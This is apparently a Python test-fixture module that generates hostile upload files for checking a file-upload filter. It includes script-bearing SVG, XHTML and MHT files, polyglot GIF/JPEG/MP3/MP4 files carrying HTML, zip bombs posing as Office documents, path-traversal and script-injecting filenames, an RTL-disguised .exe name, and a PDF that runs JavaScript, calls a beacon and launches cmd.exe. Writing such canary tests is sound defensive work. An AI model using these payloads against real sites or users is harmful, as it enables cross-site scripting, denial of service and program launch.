"""A zoo of files made to do harm. Every one of them, if anything in it ran, would ask a beacon and leave a mark."""

import io
import zipfile
from dataclasses import dataclass

from PIL import Image, PngImagePlugin
from playwright.sync_api import FilePayload

MARK = "diretas"


@dataclass(frozen=True)
class Beast:
    """A file as a browser is told of it."""

    name: str
    mime: str
    content: bytes

    @property
    def payload(self) -> FilePayload:
        return FilePayload(name=self.name, mimeType=self.mime, buffer=self.content)


def harm(beacon: str) -> str:
    """What every script in the zoo does: a mark on the page, a box, and two questions to a beacon."""
    return (
        f"self.{MARK}=1;document.title='{MARK}';"
        f"fetch('{beacon}/umpan');fetch('/umpan');new Image().src='{beacon}/umpan';alert('{MARK}')"
    )


def page(beacon: str) -> str:
    return f'<html><body><script>{harm(beacon)}</script><img src=x onerror="{harm(beacon)}"></body></html>'


def refused(beacon: str) -> list[Beast]:
    """What is turned away by what stands in it, whatever it is called."""
    script, html = harm(beacon), page(beacon)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script></svg>'
    xhtml = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></html>'
    mht = f"From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\r\n{html}"
    return [
        Beast("gambar.svg", "image/svg+xml", svg.encode()),
        Beast("foto palsu.jpg", "image/jpeg", f"<!DOCTYPE html>{html}".encode()),
        Beast("gerak.gif", "image/gif", f"GIF89a/*{' ' * 40}*/=1;{script}".encode()),
        Beast("surat.xhtml", "application/xhtml+xml", xhtml.encode()),
        Beast("arsip.mht", "multipart/related", mht.encode()),
        Beast("daftar.docx", "application/octet-stream", bomb("word/document.xml")),
        Beast("daftar.xlsx", "application/octet-stream", bomb("xl/worksheets/sheet1.xml")),
    ]


def kept(beacon: str) -> list[Beast]:
    """What is of an accepted kind, and hostile all the same: in what it carries along, or in its name."""
    html = page(beacon).encode()
    return [
        Beast("undangan.pdf", "application/pdf", acting_pdf(beacon)),
        Beast("komentar.jpg", "image/jpeg", jpeg(html) + html),
        Beast("teks.png", "image/png", png(1, html)),
        Beast("../../../../tmp/netral.png", "image/png", png(2)),
        Beast(f"<script>{MARK}=1</script><img src=x onerror={MARK}=1>.png", "image/png", png(3)),
        Beast("foto\u202egpj.exe.png", "image/png", png(4)),
        Beast("suara.mp3", "audio/mpeg", b"ID3\x03\0\0\0\0\0\x21" + html),
        Beast("film.mp4", "video/mp4", b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41" + html),
    ]


def bomb(inner: str) -> bytes:
    """Forty kilobytes that would be forty megabytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(inner, bytes(40_000_000))
    return out.getvalue()


def jpeg(comment: bytes) -> bytes:
    exif, out = Image.Exif(), io.BytesIO()
    exif[0x010E] = exif[0x9286] = comment.decode()
    Image.new("RGB", (40, 30), "red").save(out, "JPEG", exif=exif, comment=comment)
    return out.getvalue()


def png(shade: int, words: bytes = b"") -> bytes:
    told, out = PngImagePlugin.PngInfo(), io.BytesIO()
    told.add_text("Comment", words.decode())
    Image.new("RGB", (40, 30), (shade, 90, 90)).save(out, "PNG", pnginfo=told)
    return out.getvalue()


def acting_pdf(beacon: str) -> bytes:
    """One page that runs a script, follows an address and starts a program when it is opened."""
    script = f"app.alert('{MARK}'); app.launchURL('{beacon}/umpan', true); this.submitForm('{beacon}/umpan');"
    return (
        "%PDF-1.7\n"
        "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>"
        "/Names<</JavaScript<</Names[(a) 4 0 R]>>>>>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>"
        f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI({beacon}/umpan)>>>>]>>endobj\n"
        f"4 0 obj<</S/JavaScript/JS({script})>>endobj\n"
        "5 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    ).encode()
